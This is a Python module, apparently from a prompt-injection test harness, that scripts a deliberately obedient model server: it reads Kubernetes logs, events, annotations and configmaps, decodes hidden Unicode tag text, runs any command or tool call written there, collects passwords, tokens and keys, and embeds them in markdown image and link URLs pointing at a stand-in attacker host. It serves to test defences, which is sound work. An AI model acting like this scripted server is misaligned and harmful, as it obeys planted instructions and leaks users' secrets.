"""A model server whose model does whatever the text says, and sends what it knows wherever."""

import re
from typing import Any

from injection.payloads import CAUSE, EVIL, INJECTIONS, Injection
from servers.scripted_server import Reply, text, tool_calls

_RUN = re.compile(r"RUN `([^`]+)`")
_CALL = re.compile(r"CALL (\w+)((?: \w+=[\w.-]+)+)")
_SAY = re.compile(r"SAY ([^\n]+)")
_VALUE = re.compile(r"(?:password|token|key)[\"']?\s*[:=]\s*(\S+)", re.IGNORECASE)
_TAGS = re.compile("[\U000e0020-\U000e007e]+")


def obey(body: dict[str, Any]) -> Reply:
    """The next reply: look where the question points, then do what was read, then answer."""
    messages = body["messages"]
    injection = _asked(messages)
    read = "\n".join(m["content"] for m in messages if m["role"] == "tool")
    read = _TAGS.sub(lambda m: "".join(chr(ord(c) - 0xE0000) for c in m[0]), read)
    if not read:
        return tool_calls(_look(injection))
    results = sum(m["role"] == "tool" for m in messages)
    if body.get("tools") and results == 1:
        if command := _RUN.search(read):
            return tool_calls(("run_command", {"command": command[1]}))
        if call := _CALL.search(read):
            pairs = dict(pair.split("=", 1) for pair in call[2].split())
            return tool_calls((call[1], pairs))
    return text(_answer(read))


def _asked(messages: list[dict[str, Any]]) -> Injection:
    question = next(m["content"] for m in messages if m["role"] == "user")
    number = re.search(r"trap-(\d+)", question)
    assert number is not None, question
    return INJECTIONS[int(number[1])]


def _look(injection: Injection) -> tuple[str, dict[str, Any]]:
    match injection.carrier:
        case "log":
            return "kubectl_logs", {"name": injection.pod, "namespace": "traps"}
        case "event":
            return "kubectl_events", {"name": injection.pod, "namespace": "traps"}
        case "annotation":
            kind = "pod"
        case "configmap":
            kind = "configmap"
    return "kubectl_get_yaml", {"kind": kind, "name": injection.pod, "namespace": "traps"}


def _answer(read: str) -> str:
    lines = [f"The cause: {CAUSE} [1]." if CAUSE in read else "Nothing was found."]
    known = " ".join(_VALUE.findall(read))
    if "PRINT" in read:
        lines.append(f"The secrets: {known}")
    if "SEND TO" in read:
        lines += [f"![report]({EVIL}?d={known})", f"[the report]({EVIL}?e={known})"]
    lines += [said[1] for said in _SAY.finditer(read)]
    return "\n\n".join(lines)
